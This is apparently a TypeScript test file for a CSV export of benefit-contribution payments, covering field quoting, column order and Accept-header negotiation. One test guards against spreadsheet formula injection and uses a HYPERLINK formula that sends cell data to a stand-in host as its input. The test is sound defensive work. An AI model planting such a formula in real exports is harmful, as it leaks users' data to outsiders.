import { acceptsCsvOverJson, contributionsCsvHeader, contributionsCsvLines, csvField } from './contributions-csv';

describe('contributions CSV', () => {
  it('quotes a field only when RFC 4180 needs it, doubling its quotes', () => {
    expect(csvField('401(k) plan')).toBe('401(k) plan');
    expect(csvField('Dental, family')).toBe('"Dental, family"');
    expect(csvField('the "gold" plan')).toBe('"the ""gold"" plan"');
    expect(csvField('two\nlines')).toBe('"two\nlines"');
    expect(csvField('cr\rhere')).toBe('"cr\rhere"');
    expect(csvField(null)).toBe('');
    expect(csvField(-1250)).toBe('-1250');
  });

  it('keeps a text that would start a spreadsheet formula as text, and leaves numbers alone', () => {
    expect(csvField('=HYPERLINK("http://x.example/?a="&A1,"plan")')).toBe('"\'=HYPERLINK(""http://x.example/?a=""&A1,""plan"")"');
    expect(csvField('+1+1')).toBe("'+1+1");
    expect(csvField('-2+3')).toBe("'-2+3");
    expect(csvField('@SUM(A1:A2)')).toBe("'@SUM(A1:A2)");
    expect(csvField('\t=1')).toBe("'\t=1");
    expect(csvField('\r=1')).toBe('"\'\r=1"');
    expect(csvField('401(k) = pre-tax')).toBe('401(k) = pre-tax');
    expect(csvField(-1250)).toBe('-1250');
    expect(csvField(0)).toBe('0');
  });

  it('writes CRLF lines in the column order of the header', () => {
    const header = contributionsCsvHeader();
    expect(header.endsWith('\r\n')).toBe(true);
    const columns = header.trimEnd().split(',');
    const line = contributionsCsvLines({ paymentId: 'p-1', payDate: '2026-01-15' }, [
      {
        individualId: 'i-1',
        benefitId: 'b-1',
        benefitType: '401k',
        benefitDescription: 'Plan, "A"',
        thisPayment: { employeePreTax: 1, employeeRoth: 2, employeeAfterTax: 3, employer: 4 },
        yearToDate: { employeePreTax: 5, employeeRoth: 6, employeeAfterTax: 7, employer: 8 },
      },
    ]);
    expect(line).toBe('2026-01-15,p-1,i-1,b-1,401k,"Plan, ""A""",1,2,3,4,5,6,7,8\r\n');
    expect(columns).toEqual([
      'pay_date',
      'payment_id',
      'individual_id',
      'benefit_id',
      'benefit_type',
      'benefit_description',
      'employee_pre_tax',
      'employee_roth',
      'employee_after_tax',
      'employer',
      'ytd_employee_pre_tax',
      'ytd_employee_roth',
      'ytd_employee_after_tax',
      'ytd_employer',
    ]);
  });

  it.each([
    ['text/csv', true],
    ['text/csv; charset=utf-8', true],
    ['TEXT/CSV', true],
    ['text/csv, */*;q=0.1', true],
    ['application/json;q=0.5, text/csv', true],
    [['application/json;q=0.2', 'text/csv;q=0.9'], true],
    [undefined, false],
    ['*/*', false],
    ['application/json', false],
    ['application/json, text/csv', false],
    ['text/csv;q=0.5, application/json', false],
    ['text/csv;q=0', false],
    ['text/csv;q=abc', false],
    ['text/*', false],
  ] as const)('Accept %j asks for CSV: %s', (accept, csv) => {
    expect(acceptsCsvOverJson(accept as string | string[] | undefined)).toBe(csv);
  });
});
